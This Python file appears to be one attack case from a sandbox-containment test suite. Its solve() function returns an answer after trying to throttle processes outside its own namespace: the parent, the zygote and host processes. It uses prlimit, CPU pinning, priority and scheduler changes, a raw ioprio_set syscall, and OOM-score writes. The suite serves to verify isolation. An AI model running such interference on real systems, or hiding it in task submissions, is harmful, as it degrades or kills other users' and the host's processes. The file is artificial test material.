# attack: change limits, priority, core and scheduling of the parent, the zygote and a process of the host
# contained-at: namespaces restricted
# expect: seed-score
import os
import resource

from kit import *


def solve(instance):
    # The first process of one's own PID namespace lives and dies with this run; hobble_the_room.py sees to it.
    own_room = {os.getpid(), 1} if host.LEVEL == "namespaces" else {os.getpid()}
    for pid in (os.getppid(), 1, int(host.SENTINEL_PID), *map(int, host.PIDS)):
        if pid in own_room or pid == 0:
            continue
        with quietly():
            soft, hard = resource.prlimit(pid, resource.RLIMIT_NOFILE)
            got(f"read the limits of {pid}")
            resource.prlimit(pid, resource.RLIMIT_NOFILE, (soft, hard))
            got(f"set the limits of {pid}")
        with quietly():
            os.sched_setaffinity(pid, {0})
            got(f"moved {pid}")
        with quietly():
            os.setpriority(os.PRIO_PROCESS, pid, os.getpriority(os.PRIO_PROCESS, pid) + 1)
            got(f"slowed {pid}")
        with quietly():
            os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))
            got(f"idled {pid}")
        if syscall(number(251, 30), 1, pid, 3 << 13) >= 0:
            got(f"ioprio_set of {pid}")
        with quietly():
            with open(f"/proc/{pid}/oom_score_adj", "w") as file:
                file.write("1000")
            got(f"oom_score_adj of {pid}")
    return answer(instance)
